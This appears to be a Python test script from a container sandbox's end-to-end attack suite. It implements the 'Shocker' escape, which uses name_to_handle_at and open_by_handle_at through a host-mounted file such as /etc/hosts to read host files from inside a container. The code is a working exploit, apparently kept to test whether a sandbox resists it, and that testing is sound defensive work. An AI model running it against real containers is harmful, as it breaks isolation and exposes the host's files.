"""Open a file of the host's by its number, not by a path: the Shocker attack.

    handle.py name FILE             print the handle of FILE: its number in its file system
    handle.py open HANDLE MOUNT     open it, by way of any file MOUNT of that file system

Every container has such a MOUNT: /etc/hosts is a file of the host's. open_by_handle_at(2).
"""

from __future__ import annotations

import os
import struct
import sys

from tests.e2e.attacks.attempt import X86_64, attempt, libc, say, syscall


def name(path: str) -> None:
    """Print the handle of *path*. name_to_handle_at(2)."""
    import ctypes

    handle = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0), 136)
    number = ctypes.byref(ctypes.c_int())
    if libc.name_to_handle_at(-100, os.fsencode(path), handle, number, 0):
        raise OSError(ctypes.get_errno(), path)
    size = struct.unpack_from("=I", handle)[0]
    say("handle", handle.raw[: 8 + size].hex())


def open_it(handle: str, mount: str) -> bytes:
    """Open *handle* and return what the file holds."""
    below = os.open(mount, os.O_RDONLY)
    number = 304 if X86_64 else 265
    return os.read(syscall(number, below, bytes.fromhex(handle), os.O_RDONLY), 100)


def main() -> None:
    """Try all of it."""
    if sys.argv[1] == "name":
        name(sys.argv[2])
    else:
        attempt("open", lambda: open_it(*sys.argv[2:]))


if __name__ == "__main__":
    main()
